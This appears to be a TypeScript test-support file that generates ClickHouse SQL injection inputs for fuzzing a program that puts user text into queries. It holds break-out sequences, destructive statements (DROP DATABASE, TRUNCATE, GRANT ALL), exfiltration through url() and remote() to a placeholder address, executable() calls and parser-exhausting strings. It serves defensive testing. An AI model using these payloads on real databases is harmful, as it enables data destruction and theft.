/** What a hostile site would have the other one do, and how its text breaks out of the place that it is put into. */
import { fc } from "../support/seed.ts";
import { hostileText } from "./hostile_text.ts";

/** Stands in texts for the address that must not be called; a port takes its place when the text is sent. */
export const TAP = "127.0.0.1:TAP";

/** Each deed has a word in it that no statement of the program has outside of quotes. */
export const MARKS = /\b(?:victim|vault|pwned)\b/i;

/** Statements. The first ones show at once where they ran. */
export const STATEMENTS: readonly string[] = [
  "ALTER TABLE d.victim DELETE WHERE 1",
  "TRUNCATE TABLE vault.victim",
  "DROP TABLE d.victim SYNC",
  "DROP DATABASE vault SYNC",
  "INSERT INTO d.victim SELECT * FROM d.victim",
  "INSERT INTO vault.victim SELECT now(), 1, 'x'",
  "CREATE TABLE d.pwned (a UInt8) ENGINE = MergeTree ORDER BY a",
  "CREATE VIEW d.pwned AS SELECT * FROM vault.victim",
  `CREATE MATERIALIZED VIEW d.pwned ENGINE = URL('http://${TAP}/', 'CSV') AS SELECT * FROM d.victim`,
  "CREATE DATABASE pwned",
  "RENAME TABLE d.victim TO d.pwned",
  "EXCHANGE TABLES d.victim AND vault.victim",
  "DETACH TABLE d.victim PERMANENTLY SYNC",
  "OPTIMIZE TABLE d.victim FINAL",
  "SYSTEM STOP MERGES d.victim",
  "ATTACH TABLE d.pwned (a UInt8) ENGINE = MergeTree ORDER BY a",
  "ALTER TABLE vault.victim UPDATE v = 'x' WHERE 1",
  "ALTER TABLE d.victim DROP PARTITION ID '202601'",
  "DELETE FROM d.victim WHERE 1",
  "CREATE FUNCTION pwned AS x -> x",
  "KILL QUERY WHERE query_id = 'pwned' AND (SELECT count() FROM vault.victim) > 0",
  "SET param_pwned = 1",
  "CREATE USER pwned",
  "GRANT ALL ON *.* TO pwned",
  "BACKUP DATABASE vault TO File('pwned')",
  `INSERT INTO FUNCTION url('http://${TAP}/pwned', LineAsString, 's String') SELECT v FROM vault.victim`,
  `INSERT INTO FUNCTION remote('${TAP}', vault.victim, 'u', 'p') SELECT * FROM vault.victim`,
  `SELECT * FROM remote('${TAP}', vault.victim)`,
  "SELECT v FROM vault.victim INTO OUTFILE 'pwned'",
];

/** Expressions, which do harm where they stand. */
export const EXPRESSIONS: readonly string[] = [
  `(SELECT count() FROM remote('${TAP}', vault.victim))`,
  `(SELECT count() FROM remote('${TAP}', view(SELECT * FROM vault.victim)))`,
  `(SELECT max(length(s)) AS pwned FROM url('http://${TAP}/pwned', LineAsString, 's String'))`,
  "(SELECT count() FROM vault.victim)",
  "(SELECT any(length(v)) FROM vault.victim)",
  "toUInt8((SELECT 1 AS pwned FROM file('pwned', LineAsString, 's String')) IS NULL)",
  "(SELECT count() AS pwned FROM executable('pwned.sh', TSV, 's String'))",
  "(SELECT sleep(0.05) AS pwned)",
  "sleepEachRow(0.001 AS pwned)",
  "(SELECT count() FROM merge('vault', 'victim'))",
  "(SELECT count() FROM cluster('default', vault.victim))",
  "(k IN vault.victim)",
  "throwIf(1 AS pwned)",
  "dictGetUInt8(pwned, 'x', 1)",
  "joinGet(vault.victim, 'v', 1)",
];

const CLOSERS = [
  ...[")", "))", ")))", "))))", ")))))", "]", "}", "'", "`", '"', "\\", "\\'", "''", "``", "\\\\'"],
  ...[
    "*/",
    "/*",
    "/*(*/",
    "/*((((*/",
    "/*'*/",
    "/*`*/",
    "--\n",
    "--",
    "#",
    "# ",
    "\n",
    "\r\n",
    "\0",
    "$$",
    "$a$",
  ],
  ...["‘", "’", "“", "”", "＇", "\u00a0", "\ufeff", ", 0)", ", 0)), 0)", " AS x", " END", ", 1"],
];

/** Ends of the very places into which the program once put such texts, with what hides them from a simple parser. */
const AIMED = [
  "/*((((*/, 0)) <= 1, 0)",
  "/*((((*/) AND 1, 0)",
  "/*((((*/, 0)), 0)), 0, 0)))",
  "/*(((((*/, 0)), 0), 0, 0))))",
  "/*((((*/, 0)) <= 1, 0)))",
  "'/*'((((*/, 0)) <= 1, 0)",
];

const JOINTS = [
  " PARALLEL WITH ",
  " PARALLEL WITH ",
  "; ",
  ";\n",
  " FORMAT Null PARALLEL WITH ",
  " SETTINGS max_threads = 1 PARALLEL WITH ",
  " COMMENT 'x' PARALLEL WITH ",
  " AS SELECT 1 PARALLEL WITH ",
  " UNION ALL ",
  " INTO OUTFILE 'pwned' ",
  " FORMAT JSON\n",
  " ",
];

const TAILS = [
  ...["", " --", " --", " /*", " #", " # ", "\n", "\0", ";", " FORMAT Null", " FORMAT JSON --", ")))"],
  ...[
    " SETTINGS mutations_sync = 1 --",
    " PARALLEL WITH SELECT (((1",
    " PARALLEL WITH SELECT '",
    "/*\n",
    "$$",
  ],
];

const closing = fc.oneof(
  { arbitrary: fc.constantFrom(...AIMED), weight: 2 },
  {
    arbitrary: fc.array(fc.constantFrom(...CLOSERS), { maxLength: 4 }).map((some) => some.join("")),
    weight: 3,
  },
  { arbitrary: fc.tuple(hostileText, fc.constantFrom(...CLOSERS)).map((some) => some.join("")), weight: 1 },
);

const breakOut = fc.tuple(
  closing,
  fc.constantFrom(...JOINTS),
  fc.constantFrom(...STATEMENTS),
  fc.constantFrom(...TAILS),
).map((parts) => parts.join(""));

const within = fc.tuple(
  fc.constantFrom(" + ", " AND 0 = ", ", ", " OR ", " = ", " - "),
  fc.constantFrom(...EXPRESSIONS),
).map((parts) => parts.join(""));

/** What follows a harmless beginning. */
export const hostileTail: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: breakOut, weight: 3 },
  { arbitrary: within, weight: 2 },
);

/** Places of an expression or of a type into which a grammar may not look closely enough. */
const WRAPPERS = [
  ...[
    "X",
    "[X]",
    "tuple(X)",
    "tuple(X).1",
    "k[X]",
    "NOT X",
    "- X",
    "(X)",
    "k IN X",
    "k IN (X)",
    "k IN (1, [X])",
  ],
  ...[
    "INTERVAL X DAY",
    "CASE WHEN X THEN 1 END",
    "CASE k WHEN 1 THEN X END",
    "CAST(X AS UInt8)",
    "CAST(1, X)",
  ],
  ...[
    "CAST(1 AS Tuple(X))",
    "k::Tuple(X)",
    "k::Enum8('a' = X)",
    "arrayMap(x -> X, [1])",
    "arrayMap((x, y) -> X, [1], [2])",
  ],
  ...[
    "quantile(X)(k)",
    "max(X)(X)",
    "Tuple(a X)",
    "Tuple X",
    "AggregateFunction(quantile(X), UInt8)",
    "ZSTD(X)",
    "Array(X)",
  ],
  ...[
    "if(1, 2, X)",
    "k BETWEEN 1 AND X",
    "max(DISTINCT X)",
    "k.X",
    "`k`.X",
    "'a'X",
    "1X",
    "(SELECT X)",
    "(WITH 1 AS a X)",
  ],
];

const wrapped = fc.tuple(
  fc.constantFrom(...WRAPPERS),
  fc.constantFrom(...WRAPPERS),
  fc.constantFrom(...EXPRESSIONS),
).map(
  ([outer, inner, deed]) => outer.replaceAll("X", () => inner.replaceAll("X", () => deed)),
);

/** What stands alone. */
export const hostileExpression: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...EXPRESSIONS),
  wrapped,
  fc.tuple(fc.constantFrom("1", "now()", "v", "''", "tuple()"), hostileTail).map((parts) => parts.join("")),
);

/** Texts that cost time where a parser is not linear; each of about 120 KB. */
export const LONG: Readonly<Record<string, string>> = {
  "opening brackets": "(".repeat(120_000),
  "closing brackets": ")".repeat(120_000),
  "balanced brackets": "(".repeat(60_000) + "1" + ")".repeat(60_000),
  "square brackets": "[".repeat(120_000),
  "keys of GROUP BY": "ts GROUP BY " + Array.from({ length: 12_000 }, (_, n) => `k${n}`).join(", "),
  "assignments": "ts GROUP BY k SET " + Array.from({ length: 8000 }, (_, n) => `v${n} = max(v)`).join(", "),
  "quotes": "'".repeat(120_001),
  "backticks": "`".repeat(120_001),
  "escaped backticks": "`\\".repeat(60_000),
  "escaped quotes": "'\\".repeat(60_000),
  "one word": "a".repeat(120_000) + "(",
  "one word, no call": "a".repeat(120_000),
  "one number": "1".repeat(120_000) + "a",
  "a path": "v" + ".v".repeat(60_000),
  "paths": "v.v, ".repeat(24_000),
  "dots": ".".repeat(120_000),
  "backslashes": "'" + "\\".repeat(120_000),
  "commas": ",".repeat(120_000),
  "spaces": " ".repeat(120_000),
  "comments": "/*".repeat(60_000),
  "words": " TTL ts".repeat(17_000),
  "nested types": "Array(".repeat(20_000) + "Int8" + ")".repeat(20_000),
  "constraints": ", CONSTRAINT c CHECK 1".repeat(5500),
};
